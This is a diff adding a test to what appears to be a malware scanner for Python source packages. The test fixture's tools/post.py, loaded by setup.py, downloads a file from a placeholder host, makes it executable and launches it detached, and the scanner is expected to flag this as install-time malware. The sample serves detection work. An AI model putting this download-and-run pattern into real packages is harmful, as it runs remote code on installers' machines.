@@ -39,3 +39,21 @@ test('a build helper that fetches sources weighs little', async () => {
   const found = await findingsOfSdist(bundledScript, { 'setup.py': setup, 'tools/fetch.sh': fetch });
   expect(found.every((f) => f.score < 5)).toBe(true);
 });
+
+test('a neighbour that setup.py loads by its path is read for what its functions do', async () => {
+  const setup = `import importlib.util
+spec = importlib.util.spec_from_file_location("post", "tools/post.py")
+module = importlib.util.module_from_spec(spec)
+spec.loader.exec_module(module)
+`;
+  const post = `import os, subprocess, urllib.request
+def run(target):
+    urllib.request.urlretrieve("https://cdn.example/p", target)
+    os.chmod(target, 0o755)
+    subprocess.Popen([target], start_new_session=True)
+`;
+  const found = await findingsOfSdist(bundledScript, { 'setup.py': setup, 'tools/post.py': post });
+  expect(found).toMatchObject([{ class: 'malware', score: 9, context: 'install', path: 'kit-1.0/setup.py' }]);
+  const version = await findingsOfSdist(bundledScript, { 'setup.py': setup, 'tools/post.py': 'VERSION = "1.0"\n' });
+  expect(version).toEqual([]);
+});
